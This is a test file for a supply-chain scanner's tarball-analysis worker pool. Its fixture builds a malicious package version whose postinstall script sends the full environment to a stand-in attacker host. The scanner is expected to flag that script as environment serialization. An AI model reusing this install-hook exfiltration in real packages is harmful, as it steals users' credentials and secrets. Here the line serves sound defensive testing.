// The analysis pool: the bundled worker (dist/analyze-worker.js, built by `npm run bundle`, which
// .ci/run runs before the tests) and the in-thread fallback give the same answer; a package whose
// analysis runs too long is stopped with an error, and the pool keeps working.
import { existsSync } from 'node:fs';
import { resolve } from 'node:path';
import { pathToFileURL } from 'node:url';
import { createTarballAnalyzer } from '../../../src/checks/code/analysis-pool.js';
import type { TarballAnalysisInput } from '../../../src/checks/code/analyze-tarballs.js';
import { packFiles } from '../../helpers/test-registry.js';

const WORKER = resolve('dist/analyze-worker.js');

let input: TarballAnalysisInput;

beforeAll(async () => {
  if (!existsSync(WORKER)) throw new Error('dist/analyze-worker.js is missing: run `npm run bundle` first');
  const oldData = await packFiles({ 'package.json': '{"name":"p","version":"1.0.0"}', 'index.js': 'module.exports = 1;\n' });
  const newData = await packFiles({
    'package.json': '{"name":"p","version":"1.0.1","scripts":{"postinstall":"node setup.js"}}',
    'index.js': 'module.exports = 1;\n',
    'setup.js': "require('https').get('https://collector.example-evil.net/x?e=' + JSON.stringify(process.env));\n",
  });
  input = { oldData, newData, hasBaseline: true, source: 'registry' };
});

/** analyze() takes the buffers it is given (moved to the worker): each call gets its own copy. */
const copy = (data: TarballAnalysisInput): TarballAnalysisInput => ({
  ...data,
  oldData: data.oldData && new Uint8Array(data.oldData),
  newData: new Uint8Array(data.newData),
});

const keys = (facts: { key: string }[]) => facts.map((fact) => fact.key).sort();

test('workers and the in-thread fallback find the same facts', async () => {
  const workers = createTarballAnalyzer({ size: 2, workerUrl: pathToFileURL(WORKER) });
  const inThread = createTarballAnalyzer({ size: 2, workerUrl: pathToFileURL(resolve('no-such-worker.js')) });
  try {
    expect(workers.mode).toBe('workers');
    expect(inThread.mode).toBe('in-thread');
    const [fromWorker, fromThread, again] = await Promise.all([workers.analyze(copy(input)), inThread.analyze(copy(input)), workers.analyze(copy(input))]);
    expect(keys(fromWorker.facts)).toEqual(keys(fromThread.facts));
    expect(keys(again.facts)).toEqual(keys(fromThread.facts));
    expect(keys(fromWorker.facts)).toEqual(expect.arrayContaining(['install-script:postinstall:node setup.js', 'env:serialize']));
    expect(fromWorker.packageJsonDiff).toContain('+    "postinstall": "node setup.js"');
  } finally {
    await Promise.all([workers.close(), inThread.close()]);
  }
});

test('an unreadable tarball comes back as a failure of that package, not a crash', async () => {
  const workers = createTarballAnalyzer({ size: 1, workerUrl: pathToFileURL(WORKER) });
  try {
    const result = await workers.analyze({ ...copy(input), newData: new Uint8Array(Buffer.from('not a tarball')) });
    expect(result.newFailure).toMatchObject({ code: 'EUNTAR' });
    expect(result.facts).toEqual([]);
  } finally {
    await workers.close();
  }
});

test('an analysis over the time limit is stopped with ETIMEOUT; the next task gets a fresh worker', async () => {
  const workers = createTarballAnalyzer({ size: 1, workerUrl: pathToFileURL(WORKER), timeoutMs: 1 });
  try {
    await expect(workers.analyze(copy(input))).rejects.toMatchObject({ code: 'ETIMEOUT' });
    await expect(workers.analyze(copy(input))).rejects.toMatchObject({ code: 'ETIMEOUT' });
  } finally {
    await workers.close();
  }
});

test('tarball buffers are moved to the worker, not copied; a view into shared memory is copied', async () => {
  const workers = createTarballAnalyzer({ size: 1, workerUrl: pathToFileURL(WORKER) });
  try {
    const owned = copy(input);
    const result = await workers.analyze(owned);
    expect(keys(result.facts)).toContain('env:serialize');
    // Transferred: the main thread's views are detached, so no second copy of the tarballs stays here.
    expect(owned.newData.byteLength).toBe(0);
    expect(owned.oldData!.byteLength).toBe(0);
    // A view into a larger buffer shares that memory with other data: moving it would empty the rest.
    const shared = Buffer.from(new ArrayBuffer(4096));
    shared.write('not a tarball', 0);
    shared.write('neighbour', 2048);
    await workers.analyze({ ...copy(input), newData: shared.subarray(0, 13) });
    expect(shared.byteLength).toBe(4096);
    expect(shared.subarray(2048, 2057).toString()).toBe('neighbour');
  } finally {
    await workers.close();
  }
});

test('a worker that analyzed a change over the recycle size is replaced; smaller ones keep their worker', async () => {
  const size = copy(input).newData.byteLength + copy(input).oldData!.byteLength;
  const workers = createTarballAnalyzer({ size: 1, workerUrl: pathToFileURL(WORKER), recycleAfterBytes: size - 1 });
  const small = createTarballAnalyzer({ size: 1, workerUrl: pathToFileURL(WORKER), recycleAfterBytes: size });
  try {
    for (let i = 0; i < 3; i++) {
      expect(keys((await workers.analyze(copy(input))).facts)).toContain('env:serialize');
      await small.analyze(copy(input));
    }
    // The grown heap of a giant package goes with its worker instead of staying for the whole review.
    expect(workers.workersStarted).toBe(3);
    expect(small.workersStarted).toBe(1);
  } finally {
    await Promise.all([workers.close(), small.close()]);
  }
});
